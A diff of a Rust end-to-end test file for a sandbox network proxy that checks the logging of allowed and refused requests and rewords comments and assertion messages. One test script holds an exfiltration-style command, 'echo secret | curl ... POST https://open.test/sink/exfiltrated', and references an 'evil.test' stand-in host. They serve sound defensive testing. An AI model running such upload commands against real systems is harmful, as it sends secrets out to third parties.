@@ -1,5 +1,5 @@
-//! What a task was permitted is on record, however much it was refused, and whatever becomes of who
-//! reads the records.
+//! Permitted requests are recorded, regardless of the number of refusals and of the fate of the
+//! reader.
 
 use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
@@ -32,7 +32,7 @@ fn json_log(project: &Project) -> Vec<Value> {
 #[tokio::test(flavor = "multi_thread")]
 async fn refusals_do_not_displace_an_upload_from_the_log() {
     let project = Project::new();
-    // Some 4 KiB each and no two alike: more than there is room for what was refused.
+    // Some 4 KiB each and all different, which exceeds the budget for refusals.
     let script = "
 x=$(printf 'x%.0s' {1..3900})
 for c in 1 2 3 4; do
@@ -45,10 +45,10 @@ echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
     assert_eq!((ended.code, ended.stdout.as_str()), (Some(0), "7"), "it arrived: {ended:?}");
     let text = project.output(&["logs"]).stdout;
     let marks: Vec<&str> = text.lines().filter(|line| line.starts_with("WARNING log truncated")).collect();
-    assert_eq!(marks.len(), 2, "the control: there were more refusals than room: {marks:?}");
+    assert_eq!(marks.len(), 2, "the control: there were more refusals than the budget allows: {marks:?}");
     assert!(
         !text.contains("http://evil.test/exfiltrated"),
-        "the control: a request without a budget of its own was pushed out of the log"
+        "the control: a request without its own budget was displaced from the log"
     );
     let upload = "allowed POST https://open.test/sink/exfiltrated -> 200";
     assert_eq!(text.lines().filter(|line| *line == upload).count(), 1, "{marks:?}");
@@ -70,7 +70,7 @@ async fn repeated_refusal_is_logged_as_some_lines_and_a_count() {
     let one_by_one = text.lines().filter(|found| *found == line).count();
     assert!((1..100).contains(&one_by_one), "{one_by_one}");
     let different = text.lines().filter(|line| line.contains("/same?")).count();
-    assert_eq!(different, 1000, "the control: what differs is not folded");
+    assert_eq!(different, 1000, "the control: different refusals are not folded");
     let entries = json_log(&project);
     let same = entries.iter().filter(|entry| entry["target"] == "/same");
     let happened: u64 = same.map(|entry| entry["repeated"].as_u64().unwrap_or(1)).sum();
@@ -93,11 +93,11 @@ sleep 600";
         .spawn()
         .expect("the sandbox command");
     let open = "open POST https://open.test/sink/upload -> in progress";
-    until("the upload is on record while it goes on", || {
+    until("the upload is recorded while it continues", || {
         project.output(&["logs"]).stdout.lines().any(|line| line == open)
     })
     .await;
-    assert!(!project.path().join("cut").exists(), "the control: it goes on");
+    assert!(!project.path().join("cut").exists(), "the control: it continues");
     signal(Signal::KILL, &child);
     child.wait().expect("our own child");
     until("the upload ends with its owner", || project.path().join("cut").exists()).await;
@@ -114,7 +114,7 @@ async fn task_of_a_stopped_sandbox_reaches_nothing() {
     let prefix = "e2e-record-stopped";
     let project = Project::with_prefix(prefix);
     project.write(".sandbox/network-allowlist.yaml", "domains: [stopped.test]\n");
-    // So few that no buffer between the proxy and its owner ever fills.
+    // So few that no buffer between the proxy and its owner fills.
     let script = "
 until [ -e enough ]; do
   curl -s -o /dev/null -w '%{http_code}\\n' --max-time 5 https://stopped.test/ >> codes
@@ -134,16 +134,16 @@ done";
     until("it is refused", || refused() >= 3).await;
     let reached = seen();
     let before = refused();
-    until("it goes on asking", || refused() > before + 10).await;
-    assert_eq!(seen(), reached, "nothing came through meanwhile");
+    until("the task continues its requests", || refused() > before + 10).await;
+    assert_eq!(seen(), reached, "no request passed meanwhile");
     signal(Signal::CONT, &child);
-    until("it reaches the host again", || seen() > reached + 3).await;
+    until("the task reaches the host again", || seen() > reached + 3).await;
     project.write("enough", "");
     let ended = tokio::task::spawn_blocking(move || child.wait_with_output()).await;
     let ended = ended.expect("a thread").expect("our own child");
     assert_eq!(ended.status.code(), Some(0), "{ended:?}");
     let text = project.output(&["logs"]).stdout;
     let allowed = text.lines().filter(|line| line.starts_with("allowed GET https://stopped.test/")).count();
-    assert_eq!(allowed, seen(), "all that arrived is on record");
+    assert_eq!(allowed, seen(), "every request that arrived is recorded");
     assert_nothing_left(prefix).await;
 }
